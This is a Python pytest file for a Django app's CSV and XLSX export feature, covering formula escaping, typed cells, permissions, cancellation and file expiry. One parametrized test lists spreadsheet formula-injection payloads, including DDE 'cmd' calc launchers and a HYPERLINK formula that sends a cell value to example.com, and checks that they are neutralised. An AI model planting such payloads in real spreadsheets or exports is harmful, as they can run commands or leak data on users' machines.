from __future__ import annotations

import csv
import io
import os
import threading
import time
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.utils import timezone
from pytest_django import Settings
from python_calamine import CalamineWorkbook

from guanxi.kernel.access.commands import create_user
from guanxi.kernel.access.models import Branch, Role, User
from guanxi.kernel.access.system import SYSTEM
from guanxi.kernel.audit.models import AuditEntry
from guanxi.kernel.batches.commands import cancel_batch, expire_exports, start_batch, undo_batch
from guanxi.kernel.batches.errors import BatchUnknown, FileGone, NothingToUndo
from guanxi.kernel.batches.files import exports_folder, remove_strays
from guanxi.kernel.batches.models import Batch
from guanxi.kernel.batches.queries import get_batch, get_file
from guanxi.kernel.batches.sheets import SheetColumn, harmless, open_sheet
from guanxi.kernel.batches.tests.toy import ExportBranches, make_branches
from guanxi.kernel.jobs.models import Job
from guanxi.kernel.jobs.worker import Worker
from guanxi.kernel.tests.actors import Holding

COLUMNS = [
    SheetColumn("Name"), SheetColumn("Orders", "number"), SheetColumn("Spend", "money"), SheetColumn("Since", "date"),
    SheetColumn("Seen", "moment"),
]  # fmt: skip
ROWS: list[list[Any]] = [
    ["王伟", 3, Decimal("1234567.8900"), date(2026, 11, 22), datetime(2026, 11, 22, 1, 30, tzinfo=UTC)],
    ["=1+1", -2, Decimal("-0.5000"), None, None],
]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1+1", "＋1", "－1", "＠x",
        "\xa0=cmd|'/c calc'!A0",
        '=HYPERLINK("http://example.com?x="&A1,"click")', "-2+3+cmd|' /C calc'!A0",
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_run_is_only_text(text: str, tmp_path: Path) -> None:
    assert harmless(text) == f"'{text}"
    with open_sheet(tmp_path / "x.csv", "csv", [SheetColumn(text)]) as sheet:
        sheet.write([[text]])
    written = io.StringIO((tmp_path / "x.csv").read_bytes().decode("utf-8-sig"), newline="")
    assert list(csv.reader(written)) == [[f"'{text}"], [f"'{text}"]]
    with open_sheet(tmp_path / "x.xlsx", "xlsx", [SheetColumn(text)]) as sheet:
        sheet.write([[text]])
    assert b"<f>" not in _sheet_of(tmp_path / "x.xlsx")


@pytest.mark.parametrize("text", ["王伟", "3-4", "a=b", "张三 (A+)", "", "138****5678"])
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_csv_is_utf8_with_its_mark_and_plain_values(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    with open_sheet(path, "csv", COLUMNS) as sheet:
        assert sheet.write(ROWS) == 2
    heading, first, second = path.read_bytes().decode().split("\r\n")[:-1]
    assert heading == "\ufeffName,Orders,Spend,Since,Seen"
    assert first == "王伟,3,1234567.8900,2026-11-22,2026-11-22 09:30"
    assert second == "'=1+1,-2,-0.5000,,"


def test_xlsx_has_real_types(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    with open_sheet(path, "xlsx", COLUMNS) as sheet:
        assert sheet.write(ROWS) == 2
    assert CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python() == [
        ["Name", "Orders", "Spend", "Since", "Seen"],
        ["王伟", 3.0, 1234567.89, date(2026, 11, 22), datetime(2026, 11, 22, 9, 30)],  # noqa: DTZ001  # a sheet knows no time zone
        ["=1+1", -2.0, -0.5, "", ""],
    ]


def test_rows_beyond_a_worksheet_go_on_in_the_next(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("guanxi.kernel.batches.sheets.SHEET_ROWS", 3)
    path = tmp_path / "x.xlsx"
    with open_sheet(path, "xlsx", [SheetColumn("No.", "number")]) as sheet:
        assert sheet.write([number] for number in range(5)) == 5
    book = CalamineWorkbook.from_path(path)
    assert [book.get_sheet_by_name(name).to_python() for name in book.sheet_names] == [
        [["No."], [0.0], [1.0]], [["No."], [2.0], [3.0]], [["No."], [4.0]],
    ]  # fmt: skip


def _sheet_of(path: Path) -> bytes:
    with zipfile.ZipFile(path) as book:
        return book.read("xl/worksheets/sheet1.xml")


@pytest.fixture
def exporter(db: None) -> User:
    user = create_user(SYSTEM, "liu", "correct horse battery", display_name="刘总")
    user.roles.add(Role.objects.create(name="exporter", permissions=["toy.export"], visibility="all"))
    return user


def work_all() -> None:
    worker = Worker(threading.Event())
    while worker.run_one():
        pass


def export(actor: User, kind: str = "csv", count: int = 3) -> Batch:
    ids = list(Branch.objects.order_by("pk").values_list("pk", flat=True)) or make_branches(count)
    return start_batch(actor, kind="toy.export", options={"format": kind}, ids=[*reversed(ids), 777])


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_export_is_a_file_for_who_asked_and_nobody_else(exporter: User, kind: str) -> None:
    batch = export(exporter, kind)
    with pytest.raises(FileGone):
        get_file(exporter, batch.pk)
    work_all()
    line = get_batch(exporter, batch.pk)
    assert (line.state, line.done, line.changed, line.refused, line.has_file) == ("done", 4, 3, 1, True)
    assert (line.can_undo, line.is_export) == (False, True)
    file = get_file(exporter, batch.pk)
    assert (file.name, file.path.parent, line.file_size) == (
        f"branches.{kind}", exports_folder(), file.path.stat().st_size,
    )  # fmt: skip
    if kind == "csv":
        lines = file.path.read_text(encoding="utf-8-sig").splitlines()
        assert [line.partition(",")[2] for line in lines] == ["Name", "branch 3", "branch 2", "branch 1"]
    else:
        sheet = CalamineWorkbook.from_path(file.path).get_sheet_by_index(0).to_python()
        assert [row[1] for row in sheet] == ["Name", "branch 3", "branch 2", "branch 1"]
    entry = AuditEntry.objects.get(changes__has_key="exported")
    assert (entry.actor_id, entry.changes) == (exporter.pk, {"exported": 3, "columns": ["No.", "Name"]})
    for other in (Holding(), Holding(frozenset({"settings.manage", "toy.export"}))):
        with pytest.raises(BatchUnknown):
            get_file(other, batch.pk)
    with pytest.raises(NothingToUndo):
        undo_batch(exporter, batch_id=batch.pk)


def test_a_cancelled_export_leaves_no_file(exporter: User, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("guanxi.kernel.batches.commands.CHUNK", 1)
    batch = export(exporter)
    asked = []

    def rows(self: ExportBranches, actor: Any, options: Any, ids: Any) -> Iterator[list[Any]]:
        asked.append(ids)
        cancel_batch(exporter, batch_id=batch.pk)
        return iter([[1, "x"]])

    monkeypatch.setattr(ExportBranches, "rows", rows)
    work_all()
    assert (get_batch(exporter, batch.pk).state, len(asked)) == ("cancelled", 1)
    assert list(exports_folder().iterdir()) == []


def test_an_export_that_falls_over_leaves_no_file_and_begins_anew(
    exporter: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    batch = export(exporter)
    with monkeypatch.context() as patched:
        patched.setattr(ExportBranches, "rows", lambda *_: iter([[1, "x"], 1 / 0]))
        work_all()
    assert (get_batch(exporter, batch.pk).state, list(exports_folder().iterdir())) == ("waiting", [])
    Job.objects.update(run_at=timezone.now())
    work_all()
    assert get_batch(exporter, batch.pk).state == "done"
    assert len(get_file(exporter, batch.pk).path.read_text(encoding="utf-8").splitlines()) == 4


def test_exported_files_go_when_their_time_is_over(exporter: User, settings: Settings) -> None:
    settings.KEEP_DAYS = {**settings.KEEP_DAYS, "exports": 2}
    batch = export(exporter)
    work_all()
    path = get_file(exporter, batch.pk).path
    assert expire_exports(SYSTEM, before=timezone.now() + timedelta(days=1)) == 0
    assert path.exists()
    Batch.objects.update(file_until=timezone.now() - timedelta(seconds=1))
    with pytest.raises(FileGone):
        get_file(exporter, batch.pk)
    assert expire_exports(SYSTEM, before=timezone.now()) == 1
    assert (path.exists(), get_batch(exporter, batch.pk).has_file) == (False, False)


def test_files_that_no_export_names_go_after_a_day() -> None:
    kept, stray, fresh = (exports_folder() / name for name in ("kept.csv", "stray.part", "fresh.part"))
    for path in (kept, stray, fresh):
        path.touch()
    for path in (kept, stray):
        os.utime(path, (time.time() - 90_000,) * 2)
    assert remove_strays({"kept.csv"}) == 1
    assert sorted(path.name for path in exports_folder().iterdir()) == ["fresh.part", "kept.csv"]
